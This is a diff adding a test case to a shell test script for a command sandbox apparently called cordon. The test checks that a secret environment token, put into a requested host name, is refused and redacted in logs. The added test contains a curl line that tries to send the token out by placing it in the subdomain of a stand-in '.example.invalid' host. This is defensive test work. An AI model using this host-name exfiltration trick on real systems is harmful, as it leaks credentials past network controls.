@@ -110,6 +110,21 @@ TOML
     ok "$label: --no-redact passes output unfiltered (control)" || bad "$label: --no-redact" "$out"
   rm -f "$ws/settings.txt"
 
+  # a secret the command may read does not leave through a host name it asks for: cordon's refusal line and the
+  # connection event show a marker (the proxy lowercases names: the value is found in any case)
+  local tok='Xq7TokEn0Value9zZ'
+  ev=$tmp/events-host-$label.jsonl; rm -f "$ev"; touch "$ev"; chmod 666 "$ev"
+  out=$("${R[@]}" env CORDON_TEST_API_TOKEN="$tok" "$CORDON" run --policy "$tmp/keep-env.toml" --events "$ev" \
+        --net allowlist --allow-host example.com:443 -- \
+        sh -c 'curl -sS -m 5 "http://$CORDON_TEST_API_TOKEN.example.invalid/" >/dev/null 2>&1; echo done' 2>&1)
+  lower=$(tr 'A-Z' 'a-z' <<<"$tok")
+  if [[ $out == *"refused [REDACTED:"* && $out != *"$tok"* && $out != *"$lower"* ]] && ! grep -qiF "$tok" "$ev" &&
+     grep -q '"host":"\[REDACTED:' "$ev"; then
+    ok "$label: a secret in a requested host name is redacted in cordon's line and the event"
+  else
+    bad "$label: secret in a host name" "out=${out:0:300} ev=$(grep net.connection "$ev" | head -c 300)"
+  fi
+
   # a caller on a terminal: the command's output is a terminal too (one for both streams: lines keep their
   # order), still redacted; through a pipe it is a pipe
   out=$("${R[@]}" script -qec "$CORDON run -- sh -c 'test -t 1 && echo out-tty; test -t 2 && echo err-tty >&2; echo $gh_key; echo last'" /dev/null 2>&1 | tr -d '\r' | grep -v '^cordon: alert ')
